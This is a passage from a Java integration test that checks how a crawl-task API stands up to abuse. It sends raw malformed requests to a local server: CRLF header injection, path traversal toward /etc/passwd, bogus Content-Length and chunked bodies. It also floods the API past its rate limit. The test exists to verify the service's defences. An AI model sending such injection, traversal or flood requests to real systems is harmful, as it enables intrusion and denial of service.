                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nContent-Type: application/json\r\nIdempotency-Key: key\u0000nul\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
                "GET /api/tasks?university=a%0D%0ASet-Cookie:%20x=1 HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nConnection: close\r\n\r\n",
                "GET /api/tasks/../../q/health HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nConnection: close\r\n\r\n",
                "GET /api/professors/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nConnection: close\r\n\r\n",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nContent-Type: application/json\r\nContent-Length: 999\r\nConnection: close\r\n\r\n{\"url\":",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nContent-Type: application/json\r\nContent-Length: -5\r\nConnection: close\r\n\r\n{}",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n");
        for (String r : rawRequests) {
            FaultHttp.Answer a = FaultHttp.raw("127.0.0.1", port, r.getBytes(StandardCharsets.ISO_8859_1));
            assertTrue(a.header("X-Injected") == null && a.header("Set-Cookie") == null, "a header was injected: " + a.headers());
            if (a.status() >= 400 && a.status() < 500 && !a.isProblem() && (a.body().isEmpty() || a.contentType() == null)) {
                // refused by the HTTP codec before any application code: not the API's to shape
                protocolLevel.add(a.status() + " " + abbreviate(r.split("\r\n")[0]));
                tally.requests.incrementAndGet();
                tally.byStatus.computeIfAbsent(a.status(), k -> new AtomicInteger()).incrementAndGet();
            } else if (a.status() != 0) {
                tally.check("raw " + abbreviate(r), a);
            }
        }

        // A flood past the rate limit with a key of its own: 429s with Retry-After, never a 5xx.
        int flood = FULL ? 6000 : 2500;
        FaultHttp floodApi = new FaultHttp(stack.settings().apiUrl(), FLOOD_KEY);
        Semaphore inFlight = new Semaphore(64);
        List<CompletableFuture<Void>> all = new ArrayList<>();
        AtomicInteger retryAfterMissing = new AtomicInteger();
        Instant floodStart = Instant.now();
        for (int i = 0; i < flood; i++) {
            inFlight.acquire();
            HttpRequest r = floodApi.request("/api/tasks/" + UUID.randomUUID()).GET().build();
            all.add(floodApi.client().sendAsync(r, HttpResponse.BodyHandlers.ofString()).handle((resp, err) -> {
                inFlight.release();
                if (err != null) {
                    tally.serverErrors.add("flood: " + err);
                    return null;
                }
                FaultHttp.Answer a = new FaultHttp.Answer(resp.statusCode(), resp.headers().firstValue("Content-Type").orElse(null),
                        resp.headers().map(), resp.body());
                tally.check("flood GET /api/tasks/{random}", a);
                if (a.status() == 429 && a.header("Retry-After") == null) {
                    retryAfterMissing.incrementAndGet();
                }
                return null;
            }));
        }
        CompletableFuture.allOf(all.toArray(CompletableFuture[]::new)).get();
        double floodSeconds = Duration.between(floodStart, Instant.now()).toMillis() / 1000.0;

        // Afterwards: ready, the accepted tasks end, tables intact, injected text stored only as that text.
        FaultHttp.Answer ready = new FaultHttp(stack.settings().apiUrl(), null).get("/q/health/ready");
        long completed = awaitFinished(acceptedUniversity.keySet(), FINISH);
        String ids = inList(acceptedUniversity.keySet());
        long failed = acceptedUniversity.isEmpty() ? 0 : stack.count("SELECT count(*) FROM crawl_tasks WHERE status = 'FAILED' AND id IN " + ids);
        long stored = acceptedUniversity.isEmpty() ? 0 : stack.count("SELECT count(*) FROM crawl_tasks WHERE id IN " + ids);
        Map<String, Long> after = tableCounts();
        List<String> textMismatch = new ArrayList<>();
        try (var db = stack.db(); var st = db.prepareStatement("SELECT university_name FROM crawl_tasks WHERE id = ?::uuid")) {
            for (Map.Entry<String, String> e : acceptedUniversity.entrySet()) {
                if (e.getValue().equals("?")) {
                    continue;
                }
                st.setString(1, e.getKey());
                try (var rs = st.executeQuery()) {
                    if (rs.next() && !rs.getString(1).equals(e.getValue())) {
                        textMismatch.add(e.getKey() + ": stored '" + abbreviate(rs.getString(1)) + "' for '" + abbreviate(e.getValue()) + "'");
                    }
                }
            }
        }
        long lost = acceptedUniversity.size() - stored;
        // Rows stored twice for one person or paper (the unique keys allow one person under two university names).
        Set<String> names = new java.util.HashSet<>();
        Set<String> titles = new java.util.HashSet<>();
        personOfTask.values().forEach(p -> {
            names.add(LoadSite.name(p % 4, p));
            titles.add(LoadSite.ownPaperTitle(p % 4, p));
            titles.add(LoadSite.sharedPaperTitle(p % 4, p));
        });
        long duplicated;
        try (var db = stack.db()) {
            duplicated = Database.count(db, "SELECT count(*) - count(DISTINCT name) FROM professors WHERE name = ANY(?)",
                    db.createArrayOf("varchar", names.toArray()))
                    + Database.count(db, "SELECT count(*) - count(DISTINCT title) FROM papers WHERE title = ANY(?)",
                    db.createArrayOf("text", titles.toArray()));
        }

        double seconds = Duration.between(started, Instant.now()).toMillis() / 1000.0;
        new ScenarioReport("10 API abuse", ChaosSize.SIZE, acceptedUniversity.size(), completed, failed, lost, duplicated, seconds,
                String.format("%d requests: %d 4xx (%d 400, %d 404, %d 413, %d 415, %d 429), %d 5xx, %d 4xx not RFC 7807, "
                        + "%d refused by the HTTP codec; flood %d in %.1f s; ready %d; tables %s",
                        tally.requests.get(), tally.count4xx(), tally.count(400), tally.count(404), tally.count(413), tally.count(415),
                        tally.count(429), tally.serverErrors.size(), tally.notProblems.size(), protocolLevel.size(), flood, floodSeconds,
                        ready.status(), after) + (protocolLevel.isEmpty() ? "" : "; HTTP codec: " + protocolLevel)
                        + (tally.refusedByHttpLayer.isEmpty() ? "" : "; " + tally.refusedByHttpLayer.size()
                                + " refused by the HTTP layer without a body (request line over 4 KB, or not a URI)")
                        + (tally.noAnswer.isEmpty() ? "" : "; closed without an answer: " + tally.noAnswer.size() + " "
                                + tally.noAnswer.subList(0, Math.min(3, tally.noAnswer.size())))
                        + (tally.serverErrors.isEmpty() ? "" : "; 5xx: " + tally.serverErrors.subList(0, Math.min(5, tally.serverErrors.size())))
                        + (tally.notProblems.isEmpty() ? "" : "; not RFC 7807: " + tally.notProblems.subList(0, Math.min(5, tally.notProblems.size()))))
                .append();

        assertTrue(tally.serverErrors.isEmpty(), tally.serverErrors.size() + " answers were 5xx: " + tally.serverErrors);
        assertTrue(tally.noAnswer.isEmpty(), tally.noAnswer.size() + " requests got no answer: " + tally.noAnswer);
        assertTrue(tally.notProblems.isEmpty(), tally.notProblems.size() + " 4xx answers were not RFC 7807 problems: " + tally.notProblems);
        assertTrue(tally.count(429) > 0, "the flood met the rate limit: " + tally.byStatus);
        assertEquals(0, retryAfterMissing.get(), "every 429 says Retry-After");
        assertEquals(200, ready.status(), ready.body());
        String apiLog = java.nio.file.Files.readString(stack.settings().logDir().resolve("task-api.log"));
        assertTrue(!apiLog.contains("OutOfMemoryError"), "task-api ran out of heap under the abuse");
        assertEquals("UP", ready.json().path("status").asText(), ready.body());
        assertEquals(before.keySet(), after.keySet(), "no table created or dropped");
        assertEquals(0, lost, "every accepted task has its row");
        assertTrue(acceptedUniversity.size() > 0, "some submits were valid and accepted");
        assertEquals(acceptedUniversity.size(), completed, "every accepted task COMPLETED (" + failed + " FAILED)");
        assertEquals(0, duplicated, "one professor row per person and one paper row per title");
        assertTrue(textMismatch.isEmpty(), "injected text stored as other text: " + textMismatch);
        for (String table : List.of("crawl_results", "professors", "papers", "professor_papers")) {
            assertTrue(after.get(table) >= before.get(table), table + " lost rows: " + before + " -> " + after);
        }
        assertEquals(before.get("crawl_tasks") + stored, after.get("crawl_tasks"), "crawl_tasks grew by the accepted tasks only");
    }

    /** A GET through the client, or on a raw socket when the target is not a legal URI for java.net.URI. */
    private static FaultHttp.Answer getRawOrClient(String pathAndQuery) {
        try {
            java.net.URI.create(stack.settings().apiUrl() + pathAndQuery);
            return api.get(pathAndQuery);
        } catch (IllegalArgumentException e) {
            String r = "GET " + pathAndQuery + " HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: " + KEY + "\r\nConnection: close\r\n\r\n";
            return FaultHttp.raw("127.0.0.1", stack.settings().apiPort(), r.getBytes(StandardCharsets.ISO_8859_1));
        }
    }

    private static Map<String, Long> tableCounts() throws Exception {
        Map<String, Long> counts = new TreeMap<>();
        for (String t : stack.column("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")) {
            if (t.matches("[a-z_]+")) {
                counts.put(t, stack.count("SELECT count(*) FROM " + t));
            }
        }
        for (String required : List.of("crawl_tasks", "crawl_results", "professors", "papers", "professor_papers", "crawl_metrics",
                "task_api_idempotency_keys")) {
            assertNotNull(counts.get(required), "table " + required + " exists: " + counts);
        }
        return counts;
    }
}
